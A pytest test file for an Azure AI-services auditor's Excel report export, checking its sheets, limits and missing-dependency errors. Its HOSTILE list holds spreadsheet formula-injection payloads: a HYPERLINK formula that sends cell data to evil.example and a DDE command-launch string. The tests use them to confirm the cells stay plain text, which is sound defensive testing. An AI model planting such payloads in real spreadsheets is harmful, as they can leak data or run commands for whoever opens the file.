"""The auditor's workbook (``--format xlsx``): every sheet, read back with openpyxl; hostile text
stays text; Excel's limits; and the ``analysis`` extra it needs, absent in a real subprocess."""

from __future__ import annotations

import copy
import io
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import Phase, given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape
from openpyxl.worksheet.worksheet import Worksheet

from auditor.cli import main
from auditor.report.formats import render, unicode_safe
from auditor.report.reader import read_document
from auditor.report.table import FINDING_COLUMNS
from auditor.report.writers.csv_report import FORMULA_PREFIXES
from auditor.report.writers.xlsx import CUT, MAX_CELL, fit_cell, workbook_bytes
from tests.conftest import REPO, TEST_NOW, write_json

SUB = "11111111-1111-4111-8111-111111111111"
SHEETS = ["Summary", "Findings", "Not assessed", "Suppressions", "Scan"]
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "<r><t>rich</t></r>",
    "<r>&</r>",
    "_x0041_ stays as typed",
]
LANG_DEV = (
    "/subscriptions/22222222-2222-4222-8222-222222222222/resourceGroups/rg-ai-dev"
    "/providers/Microsoft.CognitiveServices/accounts/lang-dev"
)
SUPPRESSION = (
    "suppressions:\n"
    "  - rule: AIS001\n"
    f"    resource: '{LANG_DEV}'\n"
    "    reason: dev account keeps keys until the SDK upgrade (JIRA-123)\n"
    "    owner: ai-platform@contoso.com\n"
    "    expires: 2027-01-31\n"
)


def workbook(data: bytes | Path) -> openpyxl.Workbook:
    """The workbook read back by openpyxl (a second, independent reader of the format)."""
    source = io.BytesIO(data) if isinstance(data, bytes) else data
    return openpyxl.load_workbook(source)


def text(value: Any) -> Any:
    """A cell's value as Excel shows it: openpyxl leaves OOXML's ``_xHHHH_`` escapes (of
    control characters, and ``_x005F_`` of a literal underscore) undone; Excel decodes them."""
    return unescape(value) if isinstance(value, str) else value


def rows(sheet: Worksheet) -> list[tuple[Any, ...]]:
    """Every row of a sheet as values, as Excel shows them."""
    return [tuple(text(v) for v in row) for row in sheet.iter_rows(values_only=True)]


def table(sheet: Worksheet) -> list[dict[str, Any]]:
    """A table sheet's data rows keyed by its header row."""
    header, *data = rows(sheet)
    return [dict(zip(header, row, strict=True)) for row in data]


@pytest.fixture(scope="module")
def demo_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The demo scanned with a suppression, passing results listed, json and xlsx written."""
    folder = tmp_path_factory.mktemp("demo")
    suppressions = folder / "suppressions.yaml"
    suppressions.write_text(SUPPRESSION, encoding="utf-8")
    argv = ["scan", "--demo", "--include-passed", "--format", "json,xlsx", "--quiet"]
    argv += ["--suppressions", str(suppressions), "-o", str(folder / "out")]
    assert main(argv, clock=lambda: TEST_NOW) == 1
    return folder / "out"


@pytest.fixture(scope="module")
def demo_document(demo_run: Path) -> dict[str, Any]:
    """The demo run's JSON report."""
    data: dict[str, Any] = json.loads((demo_run / "auditor.json").read_text("utf-8"))
    return data


def test_the_workbook_has_every_sheet_and_every_result(
    demo_run: Path, demo_document: dict[str, Any]
) -> None:
    """The demo workbook opens with Summary, Findings, one Compliance sheet per framework,
    Not assessed, Suppressions and Scan; Findings has the JSON report's findings in order,
    with remediation, filterable under a frozen header."""
    book = workbook(demo_run / "auditor.xlsx")
    frameworks = [view["framework"] for view in demo_document["compliance"]]
    assert len(frameworks) >= 3
    assert book.sheetnames == [
        "Summary",
        "Findings",
        *(f"Compliance {name}" for name in frameworks),
        *SHEETS[2:],
    ]
    findings = book["Findings"]
    assert findings.freeze_panes == "A2"
    assert findings.auto_filter.ref == f"A1:X{len(demo_document['findings']) + 1}"
    assert findings.column_dimensions["I"].width > 50  # resource_id is readable
    listed = table(findings)
    assert list(listed[0]) == list(FINDING_COLUMNS)
    expected = demo_document["findings"]
    assert [r["fingerprint"] for r in listed] == [f["fingerprint"] for f in expected]
    assert [r["status"] for r in listed] == [f["status"] for f in expected]
    assert [r["resource_id"] for r in listed] == [f["resource_id"] for f in expected]
    rules = {rule["id"]: rule for rule in demo_document["rules"]}
    for row, finding in zip(listed, expected, strict=True):
        rule = rules[finding["rule_id"]]
        assert row["remediation"] == rule["remediation"]["summary"].strip()
        assert row["remediation_url"] == (rule["references"] or [None])[0]
        assert row["gating"] is finding["gating"]
    assert any(r["controls"] and "mcsb" in r["controls"] for r in listed)


def test_summary_and_scan_sheets_state_the_gate_and_the_settings(
    demo_run: Path, demo_document: dict[str, Any]
) -> None:
    """Summary gives the tool, counts by status and severity, the gate and its exit code;
    Scan gives the settings, sources and subscriptions the JSON report records."""
    book = workbook(demo_run / "auditor.xlsx")
    summary = {row[0]: row[1] for row in rows(book["Summary"]) if row[0] is not None}
    gate = demo_document["summary"]["gate"]
    assert summary["tool version"] == demo_document["tool"]["version"]
    assert summary["exit code"] == gate["exit_code"] == 1
    assert summary["verdict"] == "FAIL"
    assert summary["failing"] == gate["failing"]
    for status, count in demo_document["summary"]["by_status"].items():
        assert summary[status] == count
    for severity, count in demo_document["summary"]["failures_by_severity"].items():
        assert summary[severity] == count
    scan = {row[0]: row[1] for row in rows(book["Scan"]) if row[0] is not None}
    assert scan["judged as of"] == demo_document["scan"]["as_of"]
    assert scan["fail_on"] == "low"
    assert json.loads(scan["formats"]) == ["json", "xlsx"]
    subscriptions = {s["id"] for s in demo_document["scan"]["subscriptions"]}
    assert subscriptions <= set(scan)
    assert scan["demo"] is not None  # the source's kind, with its details as JSON


def test_compliance_not_assessed_and_suppression_sheets(
    demo_run: Path, demo_document: dict[str, Any]
) -> None:
    """Each Compliance sheet lists its framework's controls with verdict, counts and rules;
    Not assessed has every unknown result and every control no result judged, with reasons;
    Suppressions has the suppressed result with justification, owner and expiry."""
    book = workbook(demo_run / "auditor.xlsx")
    for view in demo_document["compliance"]:
        controls = table(book[f"Compliance {view['framework']}"])
        assert [c["control_id"] for c in controls] == [c["control_id"] for c in view["controls"]]
        for row, control in zip(controls, view["controls"], strict=True):
            assert row["verdict"] == control["verdict"]
            assert row["fail"] == control["counts"]["fail"]
            assert row["rules"] == (", ".join(control["rules"]) or None)
            assert row["why"] == control["why"]
    missing = table(book["Not assessed"])
    unknown = [f for f in demo_document["findings"] if f["status"] == "unknown"]
    assert unknown
    assert [(r["rule_or_framework"], r["resource_or_control"], r["reason"]) for r in missing][
        : len(unknown)
    ] == [(f["rule_id"], f["resource_id"], f["reason"]) for f in unknown]
    not_judged = {
        (view["framework"], c["control_id"])
        for view in demo_document["compliance"]
        for c in view["controls"]
        if c["verdict"] in ("not_assessable", "no_rules", "not_assessed")
    }
    assert not_judged
    assert {
        (r["rule_or_framework"], r["resource_or_control"]) for r in missing[len(unknown) :]
    } == (not_judged)
    assert all(r["reason"] for r in missing[len(unknown) :])
    [suppressed] = table(book["Suppressions"])
    assert suppressed["resource_id"] == LANG_DEV
    assert suppressed["owner"] == "ai-platform@contoso.com"
    assert suppressed["expires"] == "2027-01-31"
    assert suppressed["reason"].endswith("(JIRA-123)")


def test_a_report_read_back_gives_the_same_bytes(
    demo_run: Path, demo_document: dict[str, Any]
) -> None:
    """The ``auditor.json`` of a scan, read back, renders the very workbook the scan wrote:
    no clock inside, the report's own time dates the file."""
    report = read_document(demo_document, "test")
    first = render("xlsx", report)
    assert isinstance(first, bytes) and first[:2] == b"PK"
    assert first == (demo_run / "auditor.xlsx").read_bytes()
    assert render("excel", report) == first
    book = workbook(first)
    assert book.properties.created is not None
    assert book.properties.created.isoformat() == demo_document["scan"]["finished_at"][:-1]


def _hostile_snapshot(folder: Path) -> Path:
    accounts = [
        {
            "id": f"/subscriptions/{SUB}/resourceGroups/rg/providers/Microsoft.CognitiveServices/accounts/acct{i}",
            "type": "Microsoft.CognitiveServices/accounts",
            "name": name,
            "location": name,
            "tags": {"owner": name},
            "properties": {"disableLocalAuth": False},
        }
        for i, name in enumerate(HOSTILE)
    ]
    return write_json(folder / "evil.json", {"value": accounts})


def test_formula_like_names_and_messages_stay_text(run_cli: Any, tmp_path: Path) -> None:
    """Resource names and messages that Excel would run as formulas (DDE, HYPERLINK, full-width
    =, a leading tab or CR) or XlsxWriter would copy as rich-text XML are string cells with
    their exact text, and the formula-like ones carry Excel's quote prefix: no cell of any
    sheet is a formula."""
    path = _hostile_snapshot(tmp_path / "in")
    result = run_cli(
        ["scan", "--snapshot", str(path), "--format", "json,xlsx", "--select", "AIS001"]
    )
    assert result.code == 1, result.err
    book = workbook(result.output_dir / "auditor.xlsx")
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    sheet = book["Findings"]
    header = [cell.value for cell in sheet[1]]
    names = {}
    for row in sheet.iter_rows(min_row=2):
        cells = dict(zip(header, row, strict=True))
        names[text(cells["resource_name"].value)] = cells
    assert set(names) == set(HOSTILE)
    for name, cells in names.items():
        for column in ("resource_name", "location", "message"):
            cell = cells[column]
            assert cell.data_type == "s", (name, column)
            assert cell.quotePrefix is text(cell.value).startswith(FORMULA_PREFIXES), (name, column)
        assert name in text(cells["message"].value)


FUZZ_PHASES = (Phase.explicit, Phase.reuse, Phase.generate)
TRICKY = [*HOSTILE, "\x00", "\x1b", "\ud800", "\ufffe", "\uffff", "_x000D_", "\n", " ", "𝕏"]
hostile_text = st.lists(st.one_of(st.characters(), st.sampled_from(TRICKY)), max_size=10).map(
    "".join
)


@pytest.fixture(scope="module")
def small_document(demo_document: dict[str, Any]) -> dict[str, Any]:
    """The demo report cut to one finding per status and the rules they belong to."""
    document = copy.deepcopy(demo_document)
    picked: list[dict[str, Any]] = []
    for status in ("fail", "unknown", "suppressed", "pass", "not_applicable"):
        picked += [f for f in document["findings"] if f["status"] == status][:1]
    document["findings"] = picked
    kept = {f["rule_id"] for f in picked}
    document["rules"] = [r for r in document["rules"] if r["id"] in kept]
    return document


@settings(derandomize=True, max_examples=60, deadline=None, phases=FUZZ_PHASES)
@given(values=st.lists(hostile_text, min_size=1, max_size=5))
def test_any_text_reads_back_as_the_same_text(
    small_document: dict[str, Any], values: list[str]
) -> None:
    """Arbitrary names, messages and reasons (controls, lone surrogates, non-characters,
    Excel's own ``_xHHHH_`` escapes, rich-text XML) read back from the workbook as exactly the
    text the report holds, always as string cells, never as formulas."""
    document = copy.deepcopy(small_document)
    for index, finding in enumerate(document["findings"]):
        finding["resource_name"] = values[index % len(values)]
        finding["message"] = values[(index + 1) % len(values)] or "m"
        finding["reason"] = values[(index + 2) % len(values)] or None
    rendered = render(
        "xlsx", read_document(document, "test")
    )  # as every format: U+FFFD for a lone surrogate
    assert isinstance(rendered, bytes)
    book = workbook(rendered)
    listed = table(book["Findings"])
    expected = unicode_safe(document["findings"])
    for row, finding in zip(listed, expected, strict=True):
        assert row["resource_name"] == (finding["resource_name"] or None)
        assert row["message"] == finding["message"]
        assert row["reason"] == finding["reason"]
    for sheet in book.worksheets:
        for line in sheet.iter_rows():
            assert all(cell.data_type in ("s", "n", "b") for cell in line if cell.value is not None)


def test_a_cell_longer_than_excel_allows_is_cut_with_a_marker(
    small_document: dict[str, Any],
) -> None:
    """A message over 32,767 characters (astral ones count two, as in Excel) is cut to fit,
    ending with the marker that says where the full text is; shorter text is untouched."""
    document = copy.deepcopy(small_document)
    long = "x" * 40_000
    document["findings"][0]["message"] = long
    document["findings"][1]["message"] = "𝕏" * 20_000
    report = read_document(document, "test")
    listed = table(workbook(workbook_bytes(report))["Findings"])
    marker = CUT.format(limit=f"{MAX_CELL:,}")
    assert listed[0]["message"].endswith(marker)
    assert len(listed[0]["message"]) == MAX_CELL
    assert listed[0]["message"].startswith("x" * 30_000)
    astral = listed[1]["message"]
    assert astral.endswith(marker) and astral.startswith("𝕏" * 1000)
    assert len(astral.encode("utf-16-le")) // 2 <= MAX_CELL
    assert fit_cell("y" * MAX_CELL) == "y" * MAX_CELL


def test_a_table_longer_than_a_sheet_goes_on_in_the_next_one(
    demo_document: dict[str, Any],
) -> None:
    """Past the row limit (Excel's 1,048,576; here 4 to keep the test small) Findings goes on
    in ``Findings (2)``, ``Findings (3)``..., each with its header, frozen and filtered, and
    no row lost or repeated."""
    report = read_document(demo_document, "test")
    book = workbook(workbook_bytes(report, max_rows=4))
    total = len(demo_document["findings"])
    parts = -(-total // 3)
    names = ["Findings", *(f"Findings ({n})" for n in range(2, parts + 1))]
    assert [n for n in book.sheetnames if n.startswith("Findings")] == names
    fingerprints = []
    for name in names:
        sheet = book[name]
        assert sheet.freeze_panes == "A2"
        assert [c.value for c in sheet[1]] == list(FINDING_COLUMNS)
        fingerprints += [row["fingerprint"] for row in table(sheet)]
    assert fingerprints == [f["fingerprint"] for f in demo_document["findings"]]


def test_framework_names_become_valid_distinct_sheet_names(
    small_document: dict[str, Any],
) -> None:
    """A report read back may name frameworks anything: each still gets its own sheet under a
    name Excel accepts (31 characters, none of ``[]:*?/\\``), distinct ignoring case."""
    document = copy.deepcopy(small_document)
    [view, *_] = document["compliance"]
    odd = ["a/b:c*[d]?", "A/B:C*[D]?", "x" * 40, "x" * 40 + "y", "'quoted'"]
    document["compliance"] = [{**view, "framework": name} for name in odd]
    book = workbook(workbook_bytes(read_document(document, "test")))
    names = [n for n in book.sheetnames if n.startswith("Compliance")]
    assert len(names) == len(odd)
    assert len({n.lower() for n in names}) == len(odd)
    assert all(len(n) <= 31 and not set(n) & set("[]:*?/\\") for n in names)


BLOCKER = """
import importlib.abc, runpy, sys
class Blocked(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path=None, target=None):
        if name.split(".")[0] in {"pandas", "xlsxwriter", "openpyxl"}:
            raise ModuleNotFoundError(f"No module named {name!r} (blocked by the test)")
        return None
sys.meta_path.insert(0, Blocked())
sys.argv = ["auditor", *sys.argv[1:]]
runpy.run_module("auditor", run_name="__main__")
"""


def _without_analysis(args: list[str], cwd: Path) -> subprocess.CompletedProcess[str]:
    """The real ``auditor`` in a subprocess where pandas and XlsxWriter cannot be imported."""
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    return subprocess.run(
        [sys.executable, "-c", BLOCKER, *args],
        capture_output=True,
        text=True,
        cwd=cwd,
        env=env,
        timeout=300,
        check=False,
    )


def test_xlsx_without_the_analysis_extra_is_exit_2_naming_it(tmp_path: Path) -> None:
    """Without pandas/XlsxWriter installed, ``--format xlsx`` (or ``--stdout xlsx``) is exit 2
    before any scan, naming the extra to install, and writes nothing; other formats still work."""
    out = tmp_path / "out"
    for args in (["--format", "json,xlsx", "-o", str(out)], ["--stdout", "xlsx"]):
        run = _without_analysis(["scan", "--demo", *args], tmp_path)
        assert run.returncode == 2, run.stderr
        assert "pip install 'auditor[analysis]'" in run.stderr
        assert "--format xlsx needs the 'analysis' extra" in run.stderr
        assert "Traceback" not in run.stderr and run.stdout == ""
    assert not out.exists()
    plain = _without_analysis(["scan", "--demo", "--format", "csv", "-o", str(out)], tmp_path)
    assert plain.returncode == 1, plain.stderr
    assert (out / "auditor.csv").is_file()


def test_to_frame_without_the_analysis_extra_raises_naming_it(tmp_path: Path) -> None:
    """From Python, ``report.to_frame()`` without pandas raises ``InputError`` naming the extra,
    after ``import auditor`` and the scan itself worked."""
    code = BLOCKER.replace(
        'sys.argv = ["auditor", *sys.argv[1:]]\nrunpy.run_module("auditor", run_name="__main__")',
        "import auditor\n"
        "report = auditor.scan(demo=True)\n"
        "try:\n"
        "    report.to_frame()\n"
        "except auditor.InputError as exc:\n"
        "    print(exc)\n",
    )
    run = subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        env={**os.environ, "PYTHONPATH": str(REPO)},
        timeout=300,
        check=True,
    )
    assert "Report.to_frame() needs the 'analysis' extra" in run.stdout
    assert "pip install 'auditor[analysis]'" in run.stdout
